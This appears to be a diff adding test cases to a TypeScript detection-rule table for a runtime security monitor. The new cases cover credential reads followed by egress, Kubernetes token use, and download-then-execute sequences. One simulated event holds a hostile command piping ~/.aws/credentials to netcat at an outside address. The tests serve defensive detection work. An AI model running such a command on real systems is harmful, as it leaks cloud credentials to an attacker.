@@ -290,6 +290,75 @@ const TABLE: Record<string, readonly Case[]> = {
       fires: 0,
     },
   ],
+  'credential-then-egress': [
+    {
+      name: 'cat reads cloud keys, nc of the same shell sends them',
+      events: [
+        exec('/bin/sh', ['sh', '-c', 'cat ~/.aws/credentials | nc 203.0.113.9 4444'], {
+          pid: 500,
+          ppid: 100,
+        }),
+        open('/root/.aws/credentials', 'read', { pid: 501, ppid: 500 }),
+        exec('/usr/bin/nc', ['nc'], { pid: 502, ppid: 500 }),
+        connect('203.0.113.9', 4444, { pid: 502, ppid: 500 }),
+      ],
+      fires: 1,
+      severity: 'critical',
+    },
+    {
+      name: 'a learned read and a learned peer',
+      learn: [open('/root/.aws/credentials'), connect('10.0.0.5', 443)],
+      events: [open('/root/.aws/credentials'), connect('10.0.0.5', 443)],
+      fires: 0,
+    },
+    {
+      name: 'a credential read, then loopback',
+      events: [open('/root/.aws/credentials'), connect('127.0.0.1', 8080)],
+      fires: 0,
+    },
+  ],
+  'token-then-api-server': [
+    {
+      name: 'token read, then the API server from the environment',
+      events: [
+        exec('/usr/bin/python3', ['python3'], { pid: 600, env: ['KUBERNETES_SERVICE_HOST=10.96.0.1'] }),
+        open('/var/run/secrets/kubernetes.io/serviceaccount/token', 'read', { pid: 600 }),
+        connect('10.96.0.1', 443, { pid: 600 }),
+      ],
+      fires: 1,
+      severity: 'critical',
+    },
+    {
+      name: 'token read, then another peer than the known API server',
+      events: [
+        exec('/usr/bin/python3', ['python3'], { pid: 600, env: ['KUBERNETES_SERVICE_HOST=10.96.0.1'] }),
+        open('/var/run/secrets/kubernetes.io/serviceaccount/token', 'read', { pid: 600 }),
+        connect('10.0.0.5', 443, { pid: 600 }),
+      ],
+      fires: 0,
+    },
+    { name: 'a connect with no token read', events: [connect('10.96.0.1', 443)], fires: 0 },
+  ],
+  'download-write-exec': [
+    {
+      name: 'connect, write, exec the written file',
+      events: [
+        connect('203.0.113.9', 80, { pid: 700 }),
+        open('/opt/x', 'write', { pid: 700, created: true }),
+        exec('/opt/x', ['/opt/x'], { pid: 701, ppid: 700 }),
+      ],
+      fires: 1,
+      severity: 'critical',
+    },
+    {
+      name: 'write and exec with no download before',
+      events: [
+        open('/opt/x', 'write', { pid: 700, created: true }),
+        exec('/opt/x', ['/opt/x'], { pid: 701, ppid: 700 }),
+      ],
+      fires: 0,
+    },
+  ],
   'unexpected-egress': [
     { name: 'a new peer', events: [connect('203.0.113.9', 443, { dnsName: 'evil.example' })], fires: 1 },
     { name: 'a learned peer by address', events: [connect('10.0.0.5', 443)], fires: 0 },
